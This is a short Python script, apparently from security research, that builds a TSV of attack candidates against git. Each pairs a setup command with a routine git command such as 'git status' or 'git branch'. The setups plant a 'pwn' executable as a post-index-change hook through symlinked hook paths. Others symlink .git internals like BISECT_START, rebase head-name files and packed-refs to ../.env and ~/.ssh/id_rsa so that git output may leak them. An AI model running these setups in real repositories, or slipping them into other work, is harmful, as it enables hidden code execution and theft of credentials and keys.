rows=[]
def add(c,l): rows.append((c,l))
PI="githooks"
setups={
 "dirlink":"rm -rf .git/hooks; mkdir -p githooks; cp pwn githooks/post-index-change; ln -s ../githooks .git/hooks; sleep 1.1; touch README.md",
 "filelink":"mkdir -p scripts; cp pwn scripts/hook; ln -sf ../../scripts/hook .git/hooks/post-index-change; sleep 1.1; touch README.md",
}
for k,s in setups.items():
    for l in ["git status","git status -s","git status --porcelain","git status -sb","git diff --stat","git diff --name-only","git diff --name-status","git diff --shortstat","git describe --always --dirty","git diff --quiet --exit-code; echo $?","git diff --numstat","git status --ignored"]:
        add(PI+"-"+k,"setup:"+s+" ;;; "+l)
T={"env":"../.env","idrsa":"@H@/.ssh/id_rsa"}
def up(n,t): return t if t.startswith("@") else "../"*n+t[3:]
for tk in ["env","idrsa"]:
    t1=up(1,T[tk]); t2=up(2,T[tk])
    S=[("git checkout -q --detach; touch .git/BISECT_LOG; ln -sf %s .git/BISECT_START"%t1,["git branch","git branch --list","git status -sb","git status --porcelain=v2 --branch"]),
       ("git checkout -q --detach; mkdir -p .git/rebase-merge; touch .git/rebase-merge/interactive; ln -sf %s .git/rebase-merge/head-name; git rev-parse HEAD > .git/rebase-merge/onto"%t2,["git branch","git status -s","git branch -v","git worktree list"]),
       ("git checkout -q --detach; mkdir -p .git/rebase-apply; ln -sf %s .git/rebase-apply/head-name; git rev-parse HEAD > .git/rebase-apply/onto"%t2,["git status","git branch"]),
       ("ln -sf %s .git/packed-refs"%t1,["git tag -l","git branch --list 'x*'","git remote","git stash list","git worktree list","git config --get core.bare","git ls-remote . 2>&1 | head"]),
      ]
    for s,ls in S:
        for l in ls: add("gitinternals4","setup:"+s+" ;;; "+l)
open("cands3.tsv","w").write("".join(f"{c}\t{l}\n" for c,l in rows))
print(len(rows))
